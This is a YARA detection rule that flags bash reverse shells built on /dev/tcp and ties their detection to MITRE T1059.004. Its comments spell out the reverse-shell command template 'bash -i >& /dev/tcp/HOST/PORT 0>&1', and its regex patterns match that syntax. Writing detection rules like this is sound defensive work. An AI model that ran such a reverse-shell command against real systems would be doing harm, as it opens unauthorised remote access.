rule backdoor_reverse_shell_bash
{
    meta:
        id = "backdoor.reverse-shell-bash"
        description = "Interactive shell wired to a TCP connection through bash's /dev/tcp (reverse shell)"
        severity = "critical"
        confidence = "high"
        category = "backdoor"
        attack = "T1059.004"
        scope = "exec"
    strings:
        // bash -i >& /dev/tcp/HOST/PORT 0>&1, sh -i with the redirect
        $interactive = /\b(ba|z|k)?sh\s+-i\s*[0-9]?>&?\s*\/dev\/(tcp|udp)\/[A-Za-z0-9.\-]+\/[0-9]{1,5}/
        $redirect_both = /\/dev\/tcp\/[A-Za-z0-9.\-]+\/[0-9]{1,5}\s+0>&1/
        // exec N<>/dev/tcp alone is also how curl-less downloaders open a socket (execution.dev-tcp-download);
        // it is a shell only when the descriptor feeds commands: a read loop running each line, or sh on it
        $exec_fd = /\bexec\s+[0-9]{1,2}<>\s*\/dev\/(tcp|udp)\/[A-Za-z0-9.\-]+\/[0-9]{1,5}/
        $fd_loop = /while\s+read\s+(-r\s+)?\w+[^\n]{0,40}\bdo\s+\$\{?\w+\}?\s+[0-9]?[<>]&\s*[0-9]/
        // a command reading from and writing to that descriptor ("sh <&3 >&3"); with $exec_fd that is a shell.
        // (Written without the command word and the last digit: "sh\s" and ">&\s*[0-9]" make yara-x slow.)
        $fd_shell = /<&\s*[0-9]{1,2}\s+[0-9]?>&/
    condition:
        $interactive or $redirect_both or ($exec_fd and ($fd_loop or $fd_shell))
}
